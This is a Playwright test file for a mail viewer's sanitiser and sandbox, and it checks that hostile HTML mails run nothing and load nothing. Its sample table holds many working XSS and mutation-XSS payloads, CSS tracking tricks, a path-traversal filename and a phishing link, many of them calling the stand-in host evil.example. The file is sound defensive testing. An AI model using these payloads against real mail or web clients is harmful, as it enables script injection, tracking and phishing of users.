// SPDX-License-Identifier: MPL-2.0
// Mails that want to run something, load something, or send something, in the built viewer in
// Chromium: nothing of it happens. The same pictures are loaded once people ask for them.
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { type Mail, Mails } from "../../core/mails.ts";
import type { LocalMethods, Reading } from "../../core/relay.ts";
import { launch, type Look, show, type Shown } from "../support/browser.ts";
import { Home } from "../support/real-host.ts";

const look: Look = { language: "en", colorScheme: "light", width: 1200 };
const EVIL = "https://evil.example";
/** What a script of a mail would do. */
const RUN = "parent.postMessage('ran','*');top.ran=true;fetch('https://evil.example/ran')";

let browser: Browser;
let home: Home;
let proxy: Server;
/** Whose servers were asked for something: the browser has no other way to them than the proxy. */
let asked: string[] = [];

before(async () => {
  home = new Home();
  proxy = createServer(({ url }, response) => {
    asked.push(String(url));
    response.writeHead(502).end();
  });
  proxy.on("connect", ({ url }, socket) => {
    asked.push(String(url));
    socket.end("HTTP/1.1 502 Bad Gateway\r\n\r\n");
  });
  await new Promise<void>((done) => proxy.listen(0, "127.0.0.1", done));
  browser = await launch(`http://127.0.0.1:${(proxy.address() as AddressInfo).port}`);
});

after(async () => {
  await browser?.close();
  proxy?.close();
  await home?.close();
});

/** The browser asks for things of its own as well. */
const askedFor = () => asked.filter((each) => /\.example\b/.test(each)).sort();

const reading = (reasons: Reading["summary"]["reasons"] = []): Reading => ({
  summary: { signature: "none", encryption: "full", reasons },
  layers: [],
  headers: {
    from: [{ name: `<img src=x onerror="${RUN}">`, address: "eve@example.org", source: "outer" }],
    to: [],
    cc: [],
    subject: { value: `<script>${RUN}</script>`, source: "protected" },
    differing: [],
  },
  legacyDisplay: [],
  embedded: [],
  certificates: [],
  table: {},
});

const html = (body: string): Blob =>
  new Blob([`Content-Type: text/html; charset=utf-8\r\n\r\n${body}`]);

interface Seen {
  shown: Shown;
  page: Page;
  /** Windows, dialogs and downloads. */
  opened: string[];
  ran: () => Promise<boolean>;
}

async function open(mail: Mail): Promise<Seen> {
  const mails = new Mails();
  const handle = mails.add(mail);
  const local: LocalMethods = {
    "page.target": async () => ({ program: "Thunderbird", installOption: "", identities: [] }),
    "page.reading": async () => null,
    "page.mail": ({ handle: wanted }, asked) => mails.give(wanted, asked),
  };
  const shown = await show(browser, home, local, look);
  const { page } = shown;
  const opened: string[] = [];
  asked = [];
  page.on("popup", (popup) => opened.push(`window: ${popup.url()}`));
  page.on("dialog", (dialog) => {
    opened.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("download", (download) => opened.push(`download: ${download.url()}`));
  await page.addInitScript(() => {
    window.addEventListener("message", ({ data }) => {
      if (data === "ran") (window as any).ran = true;
    });
  });
  await shown.open(`viewer.html?handle=${handle}`);
  return {
    shown,
    page,
    opened,
    ran: () => page.evaluate(() => (window as any).ran === true),
  };
}

/** A picture that is asked for after all the others, by the page itself: whatever they asked for was
 * asked before it was. */
async function quiet(page: Page): Promise<void> {
  const last = `https://last-${crypto.randomUUID()}.example`;
  await page.evaluate((src) => {
    document.body.append(Object.assign(new Image(), { src }));
  }, last);
  await until(() => asked.some((each) => last.endsWith(each.replace(":443", ""))));
  asked = asked.filter((each) => !each.startsWith("last-"));
}

async function until(holds: () => boolean): Promise<void> {
  for (const end = Date.now() + 30_000; !holds(); await new Promise((done) => setTimeout(done, 20)))
    if (Date.now() > end) throw new Error(`after 30 s there is only: ${asked}`);
}

/** The text of the frame, which shows that it was looked at at all. */
async function frameText(page: Page): Promise<string> {
  const frame = page.frames().find((each) => each !== page.mainFrame());
  assert.ok(frame, "the mail is shown in a frame");
  return frame.locator("body").innerText();
}

const samples: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  "script in svg": `<svg><script>${RUN}</script></svg>`,
  "image error": `<img src=x onerror="${RUN}">`,
  "svg load": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x></svg>`,
  "svg use": `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  "svg image": `<svg><image href="${EVIL}/svg" /><feImage href="${EVIL}/fe" /></svg>`,
  "svg as data": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${EVIL}/s'/></svg>">`,
  "math link": `<math><mtext><a xlink:href="javascript:${RUN}">click</a></mtext></math>`,
  details: `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  focus: `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  marquee: `<marquee onstart="${RUN}">x</marquee>`,
  "template element": `<template><img src=${EVIL}/t onerror="${RUN}"></template>`,
  "shadow root": `<div><template shadowrootmode=open><img src=${EVIL}/shadow><script>${RUN}</script></template></div>`,
  "meta refresh": `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  "meta refresh to data": `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  "meta policy": `<meta http-equiv=Content-Security-Policy content="img-src *"><img src="${EVIL}/p">`,
  base: `<base href="${EVIL}/"><img src="relative.png"><a href="there">x</a>`,
  iframe: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  frameset: `<frameset><frame src="${EVIL}/frameset"></frameset>`,
  object: `<object data="${EVIL}/object"><embed src="${EVIL}/embed"><param name=movie value="${EVIL}/m"></object>`,
  applet: `<applet code="${EVIL}/applet"></applet>`,
  portal: `<portal src="${EVIL}/portal"></portal><fencedframe src="${EVIL}/fenced"></fencedframe>`,
  form: `<form action="${EVIL}/form" method=post><input type=submit formaction="${EVIL}/fa" value=Pay><input type=image src="${EVIL}/i"></form>`,
  "form elsewhere": `<button form=f>x</button><form id=f action="javascript:${RUN}"></form>`,
  image: `<img src="${EVIL}/pixel" width=1 height=1><img src="//evil.example/pixel2">`,
  srcset: `<img srcset="${EVIL}/set 1x, ${EVIL}/set2 2x"><picture><source srcset="${EVIL}/source"><img src="data:,"></picture>`,
  lazy: `<img loading=lazy src="${EVIL}/lazy"><img crossorigin src="${EVIL}/cross">`,
  media: `<video src="${EVIL}/v" poster="${EVIL}/poster" autoplay></video><audio src="${EVIL}/a" autoplay></audio><video><source src="${EVIL}/vs"><track src="${EVIL}/track" default></video>`,
  "old background": `<body background="${EVIL}/body"><table background="${EVIL}/table"><tr><td background="${EVIL}/td">x</td></tr></table>`,
  "style attribute": `<p style="background: url(${EVIL}/a1)">x</p><p style="background: \\75 rl(${EVIL}/a2)">x</p><p style="background-image: image-set('${EVIL}/a3' 1x)">x</p><p style="--x: \\75rl(${EVIL}/a4); background: var(--x)">x</p>`,
  "more styles": `<ul style="list-style-image: url(${EVIL}/l)"><li>x</ul><p style="cursor: url(${EVIL}/c), auto; content: url(${EVIL}/ct); border-image: url(${EVIL}/b) 1; filter: url(${EVIL}/f); mask: url(${EVIL}/m)">x</p>`,
  "style sheet": `<style>@import url(${EVIL}/import1); @import "${EVIL}/import2"; body { background: url(${EVIL}/s1) } @media all { p { background: url(${EVIL}/s2) } } p { span { background: url(${EVIL}/s3) } } @font-face { font-family: f; src: url(${EVIL}/font) } p { font-family: f } @namespace url(${EVIL}/ns); @layer a { p::before { content: url(${EVIL}/s4) } } @supports (color: red) { p { background: u\\72l(${EVIL}/s5) } } @property --y { syntax: "<image>"; inherits: false; initial-value: url(${EVIL}/s6) } p { background: var(--y) }</style><p>x <span>y</span></p>`,
  "style that ends": `<style>p::before { content: "\\3c/style\\3e\\3cimg src=${EVIL}/end onerror=\\22 ${RUN}\\22\\3e" }</style><p>x</p>`,
  "style comment": `<style>/*</style><img src=${EVIL}/cm onerror="${RUN}">*/</style>`,
  "link elements": `<link rel=stylesheet href="${EVIL}/css"><link rel=preload as=image href="${EVIL}/preload"><link rel=prefetch href="${EVIL}/prefetch"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${EVIL}"><link rel=icon href="${EVIL}/icon"><link rel=modulepreload href="${EVIL}/mod"><link rel=prerender href="${EVIL}/pre">`,
  "dangerous links": `<a href="javascript:${RUN}">a</a><a href="  java\tscript:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a><a href="vbscript:x">d</a><a href="file:///etc/passwd">e</a><a href="chrome://settings">f</a><a ping="${EVIL}/ping" href="https://good.example/">g</a><area href="javascript:${RUN}">`,
  clobbering: `<form id=chrome><input name=runtime></form><img name=fetch><a id=top href="${EVIL}/top">x</a><div id=main>y</div>`,
  "mxss math style": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${EVIL}/mx1 onerror=${RUN}&gt;">`,
  "mxss svg style": `<svg></p><style><a id="</style><img src=${EVIL}/mx2 onerror=${RUN}>">`,
  "mxss form": `<form><math><mtext></form><form><mglyph><style></math><img src=${EVIL}/mx3 onerror="${RUN}">`,
  "mxss noscript": `<noscript><p title="</noscript><img src=${EVIL}/mx4 onerror='${RUN}'>"></noscript>`,
  "mxss select": `<select><template><img src=${EVIL}/mx5 onerror="${RUN}"></template></select><svg><title><style></title><img src=${EVIL}/mx6 onerror="${RUN}"></style></svg>`,
  "mxss deep": `${"<div>".repeat(600)}<math><mi><table><mglyph><style><!--</style><img src=${EVIL}/mx7 onerror="${RUN}">`,
  "mxss table": `<table><caption><svg><title><table><tr><style><img src=${EVIL}/mx8 onerror="${RUN}"></style>`,
  "xml instruction": `<?xml-stylesheet href="${EVIL}/xml"?><!ENTITY x SYSTEM "${EVIL}/entity"><![CDATA[<img src=${EVIL}/cdata onerror="${RUN}">]]>`,
  "unfinished tag": `<img src="${EVIL}/half onerror="${RUN}" `,
  "plaintext and xmp": `<xmp><img src=${EVIL}/xmp onerror="${RUN}"></xmp><plaintext><script>${RUN}</script>`,
  "null characters": `<scr\0ipt>${RUN}</scr\0ipt><img src="java\0script:${RUN}" o\0nerror="${RUN}">`,
  "import map": `<script type=importmap>{"imports":{"x":"${EVIL}/x"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${EVIL}/sp"]}]}</script>`,
};

for (const [name, body] of Object.entries(samples)) {
  test(`${name}: nothing runs, nothing loads`, async () => {
    const { shown, page, opened, ran } = await open({
      reading: reading(),
      content: html(`<p>Here I am</p>${body}`),
    });
    try {
      assert.match(await frameText(page), /Here I am/);
      const frame = page.locator("iframe.mail-frame");
      assert.equal(
        await frame.getAttribute("sandbox"),
        "allow-popups allow-popups-to-escape-sandbox",
      );
      const made = (await frame.getAttribute("srcdoc")) ?? "";
      assert.doesNotMatch(made, /<(script|iframe|object|embed|form|base|link|svg|math|template)\b/i);
      assert.doesNotMatch(made, /<[^>]+\son\w+=/i, "no handler is left");
      await quiet(page);
      assert.deepEqual([...askedFor(), ...opened], []);
      assert.equal(await ran(), false);
    } finally {
      await shown.close();
    }
  });
}

test("what was cleaned may be cleaned wrong: the frame stops it as well", async () => {
  const { shown, page, opened, ran } = await open({ reading: reading(), content: html("<p>x</p>") });
  // Chromium connects to the server of a frame before it looks whether the frame is allowed.
  const { iframe, frameset, ...others } = samples;
  const frames = Object.values(others);
  assert.ok(iframe && frameset);
  try {
    // As if nothing had been taken out: the frame's own head, and then the mail as it came.
    await page.evaluate((all) => {
      const frame = document.querySelector<HTMLIFrameElement>("iframe.mail-frame");
      const head = frame?.srcdoc.slice(0, frame.srcdoc.indexOf("</style>") + 8) ?? "";
      document.body.append(
        ...all.map((body) => {
          const copy = frame?.cloneNode() as HTMLIFrameElement;
          copy.srcdoc = head + body;
          return copy;
        }),
      );
      return Promise.all(
        [...document.querySelectorAll("iframe")].map(
          (each) => new Promise((done) => each.addEventListener("load", done, { once: true })),
        ).slice(1),
      );
    }, frames);
    await quiet(page);
    assert.deepEqual([...askedFor(), ...opened], []);
    assert.equal(await ran(), false);
  } finally {
    await shown.close();
  }
});

const pictures =
  '<p>Pictures</p><img src="https://one.example/x.gif"><img src="http://two.example/x.gif">' +
  '<p style="background: url(https://three.example/x.gif)">x</p>';

test("pictures are loaded once they are asked for, by TLS alone, and nothing else is", async () => {
  const { shown, page, opened, ran } = await open({
    reading: reading(),
    content: html(
      `${pictures}${samples["media"]}${samples["script"]}<style>@import url(https://four.example);` +
        "@font-face { font-family: f; src: url(https://five.example) } p { font-family: f }</style>",
    ),
  });
  try {
    assert.match(await page.locator("main").innerText(), /from one\.example, three\.example, two/);
    await quiet(page);
    assert.deepEqual(askedFor(), []);
    await page.getByRole("button", { name: "Load the pictures" }).click();
    await until(() => askedFor().length >= 3);
    await quiet(page);
    assert.deepEqual(askedFor(), ["one.example:443", "three.example:443", "two.example:443"]);
    assert.deepEqual(opened, []);
    assert.equal(await ran(), false);
    assert.equal(await page.getByRole("button", { name: "Load the pictures" }).count(), 0);
  } finally {
    await shown.close();
  }
});

test("a mail that was encrypted without protection against changes never loads any", async () => {
  const { shown, page } = await open({
    reading: reading(["unauthenticated-encryption"]),
    content: html(pictures),
  });
  try {
    assert.match(await page.locator("main").innerText(), /are never loaded into this mail/);
    assert.equal(await page.getByRole("button", { name: "Load the pictures" }).count(), 0);
    await quiet(page);
    assert.deepEqual(askedFor(), []);
  } finally {
    await shown.close();
  }
});

test("names, subjects, texts and files are text, whatever they hold", async () => {
  const evil = `<img src=${EVIL}/t onerror="${RUN}"><script>${RUN}</script>`;
  const content = new Blob([
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n',
    `${evil} javascript:alert(1) https://good.example/x"onmouseover="y\r\n`,
    "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; ",
    `filename="../../<img src=x onerror=alert(1)>\u202Egpj.html"\r\n\r\n${evil}\r\n`,
    "--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; ",
    `filename="x.svg"\r\n\r\n<svg onload="${RUN}"/>\r\n--b--\r\n`,
  ]);
  const { shown, page, opened, ran } = await open({ reading: reading(), content });
  try {
    const text = await page.locator(".mail-text").innerText();
    assert.ok(text.includes(evil));
    const links = page.locator(".mail-text a");
    assert.equal(await links.count(), 4);
    assert.equal(await links.last().getAttribute("href"), "https://good.example/x");
    assert.ok((await page.locator(".facts").innerText()).includes("<script>"));
    const names = await page.locator(".rows .row-title").allInnerTexts();
    assert.deepEqual(names, ["_.._<img src=x onerror=alert(1)>gpj.html".replace(/[<>]/g, "_"), "x.svg"]);
    // Neither is shown here: it would be a page of the extension.
    assert.equal(await page.getByRole("button", { name: /^Show: / }).count(), 0);
    const [saved] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Save: x.svg" }).click(),
    ]);
    assert.equal(saved.suggestedFilename(), "x.svg");
    await quiet(page);
    assert.deepEqual(askedFor(), []);
    assert.deepEqual(opened.filter((each) => !each.startsWith("download: blob:")), []);
    assert.equal(await ran(), false);
  } finally {
    await shown.close();
  }
});

test("a message inside is a file, and its text is not the mail's", async () => {
  const content = new Blob([
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nMine\r\n',
    "--b\r\nContent-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n",
    "From: a@example.org\r\nSubject: s\r\n\r\nAnother's\r\n--b--\r\n",
  ]);
  const { shown, page } = await open({ reading: reading(), content });
  try {
    assert.equal((await page.locator(".mail-text").innerText()).trim(), "Mine");
    assert.deepEqual(await page.locator(".rows .row-title").allInnerTexts(), ["attachment.eml"]);
  } finally {
    await shown.close();
  }
});

test("when the certificates are locked the text goes", async () => {
  const { shown, page } = await open({ reading: reading(), content: html("<p>Secret</p>") });
  try {
    assert.match(await frameText(page), /Secret/);
    await page.evaluate(() => (window as any).nssmimeTell({ forget: true }));
    assert.equal(await page.locator("iframe").count(), 0);
    assert.match(await page.locator("main").innerText(), /not open any more/);
    assert.doesNotMatch(await page.title(), /script/);
    assert.equal(await page.locator("h1").innerText(), "Mail");
  } finally {
    await shown.close();
  }
});

test("a link tells where it leads, and opens in a window of its own", async () => {
  const { shown, page } = await open({
    reading: reading(),
    content: html('<a href="https://phish.example/x">https://bank.example</a>'),
  });
  try {
    const frame = page.frames().find((each) => each !== page.mainFrame());
    const link = frame?.locator("a");
    assert.equal(await link?.getAttribute("title"), "https://phish.example/x");
    await page.context().route("https://phish.example/**", (route) => route.fulfill({ body: "x" }));
    const [popup] = await Promise.all([page.waitForEvent("popup"), link?.click()]);
    await popup.waitForURL("https://phish.example/x");
    assert.equal(await popup.evaluate(() => window.opener), null);
    assert.equal(await popup.evaluate(() => document.referrer), "");
    await popup.close();
  } finally {
    await shown.close();
  }
});
